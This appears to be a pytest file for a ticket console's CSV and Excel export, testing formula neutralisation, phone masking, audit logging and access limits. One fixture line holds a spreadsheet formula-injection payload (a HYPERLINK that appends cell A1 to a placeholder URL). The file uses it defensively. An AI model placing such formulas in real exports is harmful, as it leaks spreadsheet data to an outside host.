"""The list of tickets as a file: what the screen shows for the same address, harmless in a spreadsheet, on record."""

import csv
import io
import re
from dataclasses import replace
from io import BytesIO

import pytest
from openpyxl import load_workbook
from structlog.testing import capture_logs

from console import ticket_export
from console.workbook import csv_of
from tests.console.conftest import Person
from tests.console.sample import Day
from tests.fakes import FakeStore

HARMFUL = '=HYPERLINK("http://x/"&A1,"点我")'


def in_csv(person: Person, query: str) -> list[list[str]]:
    answer = person.get(f"/tickets.csv?{query}")
    assert answer.mimetype == "text/csv"
    assert re.fullmatch(r'attachment; filename="tickets-\d{8}-\d{4}\.csv"', answer.headers["Content-Disposition"])
    assert answer.data.startswith(b"\xef\xbb\xbf"), "spreadsheets of Chinese offices guess wrongly without the mark"
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


def in_workbook(person: Person, query: str) -> list[list[str]]:
    book = load_workbook(BytesIO(person.get(f"/tickets.xlsx?{query}").data))
    return [[cell or "" for cell in row] for row in book.active.iter_rows(values_only=True)]  # type: ignore[union-attr]  # it has a sheet


def on_screen(person: Person, query: str) -> list[str]:
    return re.findall(r'data-name="工单号"><a [^>]*>([^<]+)<', person.get(f"/tickets?{query}").text)


@pytest.mark.parametrize(
    "query", ["", "state=all", "state=closed", "kind=cold_room", "emergency=1", "search=14度", "community=2&state=all"]
)
def test_the_files_have_what_the_screen_shows(zhuguan: Person, day: Day, query: str) -> None:
    assert day
    head, *rows = in_csv(zhuguan, query)
    assert head[0] == "工单号"
    assert [row[0] for row in rows] == on_screen(zhuguan, query)
    assert {len(row) for row in rows} <= {len(head)}
    assert in_workbook(zhuguan, query) == [head, *rows]


def test_nothing_in_it_is_a_formula_and_numbers_are_masked(zhuguan: Person, store: FakeStore, day: Day) -> None:
    with store.write() as tx:
        ticket = tx.ticket(day.cold)
        tx.save_ticket(replace(ticket, symptom=HARMFUL, contact_name="@赵\t&\n<b>", contact_phone="+8613812345678"))
    head, row = in_csv(zhuguan, f"search={ticket.number}")
    told = dict(zip(head, row, strict=True))
    assert told["情况"] == f"'{HARMFUL}"
    assert told["联系人"] == "'@赵 & <b>"
    assert told["电话"] == "138 **** 5678"
    book = load_workbook(BytesIO(zhuguan.get(f"/tickets.xlsx?search={ticket.number}").data))
    [cells] = book.active.iter_rows(min_row=2)  # type: ignore[union-attr]  # it has a sheet
    assert {cell.data_type for cell in cells if cell.value} == {"s"}
    assert HARMFUL in [cell.value for cell in cells]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_every_sign_of_a_formula_is_taken_off(sign: str) -> None:
    assert csv_of(f"# x\nA\tB\n{sign}1\tb").decode("utf-8-sig").splitlines() == ["A,B", f"'{sign}1,b"]


def test_who_took_it_is_on_record_without_what_was_searched_for(zhuguan: Person, day: Day) -> None:
    assert day
    with capture_logs() as lines:
        zhuguan.get("/tickets.csv?kind=cold_room&search=赵")
    [line] = [line for line in lines if line["event"] == "audit.looked"]
    assert (line["operator"], line["form"], line["asked"], line["searched"]) == ("zhuguan", "csv", ["kind"], True)


def test_operators_take_nothing_out(xiaoli: Person, day: Day) -> None:
    assert day
    for form in ("csv", "xlsx"):
        assert xiaoli.get(f"/tickets.{form}").status_code == 403
    assert "/tickets.csv" not in xiaoli.get("/tickets").text


def test_too_many_are_refused_and_said(zhuguan: Person, day: Day, monkeypatch: pytest.MonkeyPatch) -> None:
    assert day
    monkeypatch.setattr(ticket_export, "MOST", 2)
    assert "缩小筛选范围" in zhuguan.told(zhuguan.get("/tickets.csv?state=all"))
